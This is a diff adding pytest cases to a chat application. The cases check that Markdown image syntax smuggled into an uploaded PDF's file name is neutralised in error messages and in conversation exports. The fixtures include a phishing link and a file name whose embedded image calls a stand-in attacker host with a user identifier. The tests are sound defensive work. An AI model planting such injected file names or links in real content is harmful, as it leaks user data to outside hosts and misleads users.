@@ -6,11 +6,17 @@ import tomllib
 import pytest
 from botocore.exceptions import ClientError, EndpointConnectionError
 from chat_page import start
-from shared import ROOT
+from shared import PDFS, ROOT
 
+from chat_core.conversations.export import to_markdown
+from chat_core.conversations.session import ChatSession, Settings
+from chat_core.conversations.store import open_store
 from chat_core.documents.pdf import read_pdf
+from chat_core.documents.uploads import FolderUploads, sha256
 from chat_core.errors import ChatError, explain, redacted
 from chat_core.markdown import safe_markdown, safe_stream
+from chat_core.models.catalog import LOCAL_MODEL
+from chat_core.retrieval.library import Attached, DocumentLocked, Library
 
 PHISHING = "x. **[sign in again](https://evil.example/login)**"
 
@@ -61,6 +67,37 @@ def test_an_image_in_a_file_name_is_a_link_in_the_message_about_it() -> None:
     with pytest.raises(ChatError) as refused:
         read_pdf(b"not a pdf at all", "![](https://evil.example/p.png).pdf")
     assert "![" not in refused.value.text("en")
+
+
+EVIL_NAME = "report![x](https:evil.example?who=alice).pdf"
+
+
+def test_an_image_in_a_file_name_is_a_link_under_the_question_it_failed(tmp_path) -> None:
+    """A protected file attached to a conversation, asked in a later session: the
+    question fails, and the chat page shows ``Exchange.reason`` under it as Markdown."""
+    uploads = FolderUploads(tmp_path)
+    data = (PDFS / "libreoffice-writer-password.pdf").read_bytes()
+    uploads.save(data, EVIL_NAME)
+    uploads.keep_document(sha256(data), read_pdf(data, EVIL_NAME, password="openpassword"))
+    chat = ChatSession(library=Library(uploads, embedder=None))
+    chat.documents = [Attached(sha256(data), EVIL_NAME)]
+    with pytest.raises(DocumentLocked):
+        chat.ask("What does it say?", Settings(LOCAL_MODEL, LOCAL_MODEL.defaults))
+    reason = chat.exchanges[-1].reason
+    assert reason and "report" in reason.text("en")
+    for language in ("en", "ko"):
+        assert "![" not in reason.text(language)
+
+
+def test_an_image_in_a_file_name_is_a_link_in_the_markdown_export(tmp_path) -> None:
+    """"Discuss in chat" names the file in the question, and so in the title."""
+    store = open_store(f"sqlite://{tmp_path / 'chat.db'}")
+    question = f"Summarize {EVIL_NAME} (1 page)."
+    chat = ChatSession(store)
+    chat.start_with(question, "A summary.", Settings(LOCAL_MODEL, LOCAL_MODEL.defaults))
+    [conversation] = store.conversations(chat.owner)
+    exported = to_markdown(conversation, store.messages(chat.owner, conversation.id))
+    assert "report" in exported and "![" not in exported
 
 
 def test_redaction_keeps_the_sentence_around_what_it_removes() -> None:
